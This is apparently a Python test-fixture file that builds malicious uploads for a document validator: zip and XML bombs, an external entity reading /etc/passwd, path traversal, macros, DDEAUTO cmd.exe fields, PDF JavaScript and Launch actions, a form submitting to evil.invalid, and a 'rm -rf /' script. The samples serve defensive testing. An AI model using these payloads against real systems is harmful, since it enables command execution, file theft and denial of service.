"""Uploads made to hurt: how each is made, and the code (or codes) of what is said of it.

A third entry is the name under which the file comes; otherwise it is `a.pdf`.
"""

import io
import warnings
import zipfile

import pypdf

from tests.dps.documents import made

MEGABYTE = 2**20


def word_of(*, types: str = "", body: str = "", **more: str | bytes) -> bytes:
    entries = dict(more)
    if types:
        entries["[Content_Types].xml"] = types
    return made.docx(entries, body=body)


def field(*pieces: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return made.story(mark.format("begin") + inner + mark.format("end"))


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def billion_laughs() -> str:
    steps = "".join(
        f'<!ENTITY a{n} "{"&a%d;" % (n - 1) * 10}">'  # noqa: UP031
        for n in range(1, 10)
    )
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{steps}]>'
        f'<w:document xmlns:w="{made.W}"><w:body>&a9;</w:body></w:document>'
    )


def outside_entity() -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{made.W}"><w:body>&e;</w:body></w:document>'
    )


def bomb(megabytes: int, parts: int = 1) -> bytes:
    return made.docx(
        {f"word/media/image{n}.png": b"\0" * (megabytes * MEGABYTE) for n in range(parts)}
    )


def overlapping() -> bytes:
    """One compressed kernel that many entries of the directory point to."""
    raw = made.docx({"word/media/a.png": b"\0" * (20 * MEGABYTE)})
    archive = zipfile.ZipFile(io.BytesIO(raw))
    kernel = archive.getinfo("word/media/a.png")
    out = io.BytesIO(raw)
    with zipfile.ZipFile(out, "a") as again:
        for n in range(60):
            copy = zipfile.ZipInfo(f"word/media/b{n}.png")
            copy.compress_type = kernel.compress_type
            copy.CRC, copy.file_size = kernel.CRC, kernel.file_size
            copy.compress_size, copy.header_offset = kernel.compress_size, kernel.header_offset
            again.filelist.append(copy)
        again._didModify = True
    return out.getvalue()


def duplicate_names() -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")
        for name, content in made.parts().items():
            archive.writestr(name, content)
        archive.writestr("word/document.xml", made.story(made.run("another")))
    return out.getvalue()


def deep_xml() -> str:
    return (
        f'<?xml version="1.0"?><w:document xmlns:w="{made.W}">'
        + "<w:p>" * 200_000
        + "</w:p>" * 200_000
        + "</w:document>"
    )


def many_parts() -> bytes:
    return made.docx({f"word/media/image{n}.png": b"x" for n in range(2_001)})


def plain_zip() -> bytes:
    return made.packed({"notes.txt": "hello"})


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = "word/_rels/document.xml.rels"

HOSTILE = {
    # not what the name says
    "text named .pdf": (lambda: b"Dear buyers,\nplease find our offer below.\n", "not_a_document"),
    "text named .docx": (lambda: b"just words", "not_a_document", "a.docx"),
    "page of HTML": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "not_a_document"),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "not_a_document"),
    "program": (lambda: b"MZ\x90\0" + b"\0" * 200, "not_a_document"),
    "script for a shell": (lambda: b"#!/bin/sh\nrm -rf /\n", "not_a_document"),
    "nothing": (lambda: b"", "empty"),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_word", "a.doc"),
    "Word named .pdf": (made.docx, "wrong_ending"),
    "PDF named .docx": (made.pdf, "wrong_ending", "a.docx"),
    "PDF without an ending": (made.pdf, "wrong_ending", "offer"),
    "another zip": (plain_zip, "not_a_document", "a.docx"),
    "words before the PDF": (lambda: b"MZ\x90\0\n" + made.pdf(), "not_a_document"),
    # archives
    "cut-off archive": (lambda: made.docx()[:-200], "damaged", "a.docx"),
    "archive of noise": (lambda: b"PK\x03\x04" + bytes(range(256)) * 40, "damaged", "a.docx"),
    "bomb in one part": (lambda: bomb(120), "too_complicated", "a.docx"),
    "bomb in many parts": (lambda: bomb(12, 10), "too_complicated", "a.docx"),
    "bomb that lies about its size": (
        lambda: made.patched_sizes(bomb(120), 10),
        "damaged",
        "a.docx",
    ),
    "bomb of overlapping parts": (overlapping, {"damaged", "too_complicated"}, "a.docx"),
    "bomb in the text": (
        lambda: word_of(body=made.story(made.run("a" * (17 * MEGABYTE)))),
        "too_complicated",
        "a.docx",
    ),
    "too many parts": (many_parts, "too_complicated", "a.docx"),
    "two parts of one name": (duplicate_names, "odd_part", "a.docx"),
    "way out of the folder": (
        lambda: made.docx({"word/../../evil.xml": "x"}),
        "odd_part",
        "a.docx",
    ),
    "name from the root": (lambda: made.docx({"/etc/evil.xml": "x"}), "odd_part", "a.docx"),
    "backslashes": (lambda: made.docx({"word\\..\\evil.xml": "x"}), "odd_part", "a.docx"),
    "encrypted parts": (lambda: made.with_flag(made.docx(), 1), "encrypted", "a.docx"),
    "unusual compression": (
        lambda: made.packed(made.parts(), zipfile.ZIP_LZMA),
        "odd_part",
        "a.docx",
    ),
    # Word
    "no main part": (
        lambda: made.packed({"[Content_Types].xml": made.content_types()}),
        "not_a_document",
        "a.docx",
    ),
    "spreadsheet": (
        lambda: word_of(types=made.content_types("application/vnd.ms-excel")),
        "not_a_document",
        "a.docx",
    ),
    "macro by content type": (
        lambda: word_of(types=made.content_types(MACRO_TYPE)),
        "macro",
        "a.docx",
    ),
    "macro by name": (lambda: made.docx({"word/vbaProject.bin": b"x"}), "macro", "a.docx"),
    "macro by relation": (
        lambda: made.docx({RELS: made.relationships(("vbaProject", "media/a.png", False))}),
        "macro",
        "a.docx",
    ),
    "ActiveX": (lambda: made.docx({"word/activeX/activeX1.xml": "<x/>"}), "macro", "a.docx"),
    "file within": (
        lambda: made.docx({"word/embeddings/oleObject1.bin": b"x"}),
        "embedded",
        "a.docx",
    ),
    "page taken in as a part": (
        lambda: made.docx({RELS: made.relationships(("aFChunk", "chunk.html", False))}),
        "embedded",
        "a.docx",
    ),
    "program within": (lambda: made.docx({"word/media/run.exe": b"MZ"}), "odd_part", "a.docx"),
    "template from elsewhere": (
        lambda: made.docx(
            {
                "word/_rels/settings.xml.rels": made.relationships(
                    ("attachedTemplate", "http://evil.invalid/t.dotm", True)
                )
            }
        ),
        "outside",
        "a.docx",
    ),
    "picture from elsewhere": (
        lambda: made.docx(
            {RELS: made.relationships(("image", "file://evil.invalid/share/a.png", True))}
        ),
        "outside",
        "a.docx",
    ),
    "DDE field": (lambda: word_of(body=field(" DDEAUTO c:\\\\cmd.exe ")), "field_code", "a.docx"),
    "DDE field in pieces": (
        lambda: word_of(body=field(" DD", "EAU", "TO c:\\\\cmd.exe ")),
        "field_code",
        "a.docx",
    ),
    "field that fetches": (
        lambda: word_of(body=field(' INCLUDEPICTURE "http://evil.invalid/x" ')),
        "field_code",
        "a.docx",
    ),
    "billion laughs": (lambda: word_of(body=billion_laughs()), "damaged", "a.docx"),
    "entity from outside": (lambda: word_of(body=outside_entity()), "damaged", "a.docx"),
    "text that is no XML": (lambda: word_of(body="<w:document"), "damaged", "a.docx"),
    "endless nesting": (
        lambda: word_of(body=deep_xml()),
        "too_complicated",
        "a.docx",
    ),
    # PDF
    "PDF cut off": (lambda: made.pdf()[:120], "damaged"),
    "PDF of noise": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "damaged"),
    "PDF with a password": (encrypted_pdf, "encrypted"),
    "PDF without pages": (lambda: made.pdf(pages=0), "no_pages"),
    "script on opening": (
        lambda: made.pdf(catalogue="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "script",
    ),
    "script by reference": (
        lambda: made.pdf(
            catalogue="/OpenAction 6 0 R", objects=("<< /S /JavaScript /JS (app.alert\\(1\\)) >>",)
        ),
        "script",
    ),
    "script with its name in code": (
        lambda: made.pdf(catalogue="/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        "script",
    ),
    "script in the tree of names": (
        lambda: made.pdf(catalogue="/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
        "script",
    ),
    "script of a page": (lambda: made.pdf(page="/AA << /O << /S /JavaScript >> >>"), "script"),
    "program to start": (
        lambda: made.pdf(catalogue="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "script",
    ),
    "form that sends itself": (
        lambda: made.pdf(objects=("<< /S /SubmitForm /F (http://evil.invalid) >>",)),
        "script",
    ),
    "form of the XFA kind": (lambda: made.pdf(catalogue="/AcroForm << /XFA 6 0 R >>"), "script"),
    "file attached": (
        lambda: made.pdf(
            objects=("<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", made.stream(b"MZ"))
        ),
        "embedded",
    ),
    "file attached to a note": (
        lambda: made.pdf(page="/Annots [<< /Type /Annot /Subtype /FileAttachment >>]"),
        "embedded",
    ),
    "film": (
        lambda: made.pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia >>]"),
        "embedded",
    ),
    "script in a packed object": (
        lambda: packed_objects(b"6 0 << /S /JavaScript /JS (x) >>"),
        "script",
    ),
    "bomb of packed objects": (
        lambda: packed_objects(b"6 0 (" + b"a" * (200 * MEGABYTE) + b")"),
        {"damaged", "too_complicated"},
    ),
    "page tree that bites its tail": (
        lambda: made.pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        {"damaged", "no_pages", "too_complicated"},
    ),
    "brackets without end": (
        lambda: made.pdf(objects=("[" * 300_000,)),
        {"damaged", "too_complicated"},
    ),
    "objects without number": (
        lambda: made.pdf(objects=("<< >>",) * 210_000),
        "too_complicated",
    ),
}


def packed_objects(content: bytes) -> bytes:
    """A PDF whose last object stands in a compressed object stream, named by an xref stream."""
    head, _, body = content.partition(b" 0 ")
    index = head + b" 0 "
    holder = made.stream(index + body, f"/Type /ObjStm /N 1 /First {len(index)}")
    plain = made.pdf(objects=(b"<< >>", holder))
    start = plain.rindex(b"xref\n0")
    place = plain.index(b"7 0 obj")
    starts = [plain.index(b"\n%d 0 obj" % n) + 1 for n in range(1, 6)]
    rows = b"".join(b"\x01" + at.to_bytes(4, "big") + b"\0" for at in starts)
    rows = b"\0" * 6 + rows + b"\x02" + (7).to_bytes(4, "big") + b"\0"
    rows += b"\x01" + place.to_bytes(4, "big") + b"\0"
    table = made.stream(rows, "/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R")
    return plain[:start] + b"8 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
